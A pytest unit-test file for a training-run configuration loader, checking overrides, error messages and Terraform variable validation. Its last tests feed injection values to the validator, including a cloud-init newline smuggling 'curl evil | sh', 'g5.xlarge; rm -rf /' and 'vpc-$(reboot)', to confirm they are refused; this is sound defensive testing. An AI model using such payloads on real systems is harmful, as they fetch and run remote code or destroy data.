import pytest

from training_core.config import (
    RunSpec,
    SpecError,
    dump_spec,
    load_spec,
    parse_overrides,
    spec_from_dict,
)

pytestmark = pytest.mark.unit  # no process, network or database (conftest)


def test_defaults_are_valid():
    spec = RunSpec()
    assert spec.rollout.max_staleness == 1 and spec.algorithm.preset == "grpo"


def test_yaml_plus_dotted_overrides(tmp_path):
    f = tmp_path / "run.yaml"
    f.write_text("name: x\ntrainer:\n  lr: 0.01\n  steps: 5\n")
    spec = load_spec(f, ["trainer.lr=1e-5", "rollout.max_staleness=0", "data.options.max_value=9"])
    assert spec.trainer.lr == 1e-5 and spec.trainer.steps == 5
    assert spec.rollout.max_staleness == 0 and spec.data.options == {"max_value": 9}


def test_unknown_key_names_the_key_and_suggests():
    with pytest.raises(SpecError) as err:
        load_spec(None, ["trainer.lrr=1"])
    assert "trainer.lrr" in err.value.errors
    assert "trainer.lr" in str(err.value) and "Allowed here" in str(err.value)


def test_bad_literal_lists_allowed_values():
    with pytest.raises(SpecError) as err:
        load_spec(None, ["algorithm.preset=ppo2"])
    msg = err.value.errors["algorithm.preset"]
    assert "grpo" in msg and "dapo" in msg and "ppo2" in msg


def test_bad_number_names_the_field():
    with pytest.raises(SpecError) as err:
        load_spec(None, ["rollout.max_staleness=-1"])
    assert "rollout.max_staleness" in err.value.errors


def test_unknown_data_kind():
    with pytest.raises(SpecError, match="source kind"):
        load_spec(None, ["data.source=ftp:x"])


def test_override_syntax_error():
    with pytest.raises(SpecError):
        parse_overrides(["trainer.lr"])


def test_resolved_spec_round_trips(tmp_path):
    spec = load_spec(None, ["name=rt", "rollout.group_size=3"])
    dump_spec(spec, tmp_path / "spec.yaml")
    assert load_spec(tmp_path / "spec.yaml") == spec


def test_weight_sync_names_its_choices():
    # "nccl" was the old name of "distributed" (which picks nccl or gloo by device).
    with pytest.raises(SpecError, match="'disk' or 'distributed'.*'nccl'"):
        load_spec(None, ["weight_sync=nccl"])
    assert load_spec(None, ["weight_sync=distributed"]).weight_sync == "distributed"


def test_config_checks_from_the_engine_review():
    from training_core.config import SpecError, load_spec

    with pytest.raises(SpecError, match="group_size 1 gives algorithm.preset 'grpo' no group baseline"):
        load_spec(None, ["rollout.group_size=1"])
    load_spec(None, ["rollout.group_size=1", "algorithm.preset=ppo_kl"])  # batch baseline: fine
    with pytest.raises(SpecError, match="top_k 0 is refused by SGLang"):
        load_spec(None, ["rollout.top_k=0"])
    with pytest.raises(SpecError, match="algorithm.overlong_buffer"):
        load_spec(None, ["algorithm.overlong_buffer=4"])  # a fraction of max_new_tokens now
    with pytest.raises(SpecError, match="named template: reasoning_gym, math, gsm8k"):
        load_spec(None, ["data.prompt_template=nope"])
    assert load_spec(None, ["data.prompt_template=gsm8k"]).data.prompt_template == "gsm8k"
    # A value YAML cannot parse is taken as the literal string, not a traceback.
    assert load_spec(None, ["name=@night"]).name == "@night"
    with pytest.raises(SpecError, match="reward.extract"):
        load_spec(None, ["reward.extract=xml"])
    spec = load_spec(None, ["rollout.max_staleness=3"])
    assert spec.rollout.max_token_staleness is None and spec.rollout.token_staleness_bound == 3
    assert load_spec(None, ["rollout.max_token_staleness=5"]).rollout.token_staleness_bound == 5


def test_vpc_peering_vars_are_checked_and_name_their_field():
    def errors(**tf) -> dict:
        base = {"region": "us-east-1", "availability_zone": "us-east-1a",
                "instance_type": "p5.48xlarge", "node_count": 2,
                "prefect_api_url": "http://10.0.0.5:4200/api"}
        try:
            spec_from_dict({"orchestration": {"provider": "terraform",
                                              "terraform_vars": {**base, **tf}}})
        except SpecError as exc:
            return exc.errors
        return {}

    field = "orchestration.terraform_vars."
    peered = {"control_plane_vpc_id": "vpc-0123456789abcdef0"}
    assert errors(**peered, control_plane_vpc_cidr="10.0.0.0/16",
                  control_plane_route_table_ids=["rtb-0123456789abcdef0"]) == {}
    assert list(errors(**peered)) == [field + "control_plane_vpc_cidr"]  # routed: needed
    assert "overlaps the runs' own VPCs" in errors(
        **peered, control_plane_vpc_cidr="10.120.0.0/16")[field + "control_plane_vpc_cidr"]
    assert field + "control_plane_vpc_id" in errors(control_plane_vpc_id="vpc-$(reboot)")
    assert field + "control_plane_route_table_ids.0" in errors(
        **peered, control_plane_vpc_cidr="10.0.0.0/16", control_plane_route_table_ids=["x; y"])


def test_terraform_vars_are_typed_and_cannot_inject_into_cloud_init():
    from training_core.config import spec_from_dict

    base = {"region": "us-east-1", "availability_zone": "us-east-1a", "instance_type": "g5.xlarge",
            "node_count": 2, "prefect_api_url": "https://prefect.example/api"}

    def spec(tf):
        return spec_from_dict({"orchestration": {"provider": "terraform", "terraform_vars": tf}})

    assert spec(base).orchestration.terraform_vars.node_count == 2
    bad = {
        "prefect_api_url": "https://x/api\nruncmd: [curl evil | sh]",  # a newline into cloud-init
        "instance_type": "g5.xlarge; rm -rf /",
        "node_count": 1000,
        "ssh_allowed_cidrs": ["everyone"],
    }
    assert "\n" in bad["prefect_api_url"]
    for key, value in bad.items():
        with pytest.raises(SpecError) as err:
            spec({**base, key: value})
        assert any(k.startswith(f"orchestration.terraform_vars.{key}") for k in err.value.errors), (
            key, err.value.errors)
    with pytest.raises(SpecError) as err:  # the run id is the run's own, never given
        spec({**base, "run_id": 1})
    assert "orchestration.terraform_vars.run_id" in err.value.errors


def test_a_reward_timeout_past_the_remote_pools_task_limit_is_refused():
    """A call allowed 400 s would be killed by the Celery task's limit first (remote executor),
    as an error rather than a timeout: the spec refuses it, naming the field."""
    from workers.tasks import REWARD_SCORE_LIMITS

    limit = REWARD_SCORE_LIMITS["soft_time_limit"]
    assert load_spec(None, [f"reward.timeout_s={limit}"]).reward.timeout_s == limit
    with pytest.raises(SpecError, match="reward.timeout_s"):
        load_spec(None, [f"reward.timeout_s={limit + 1}"])
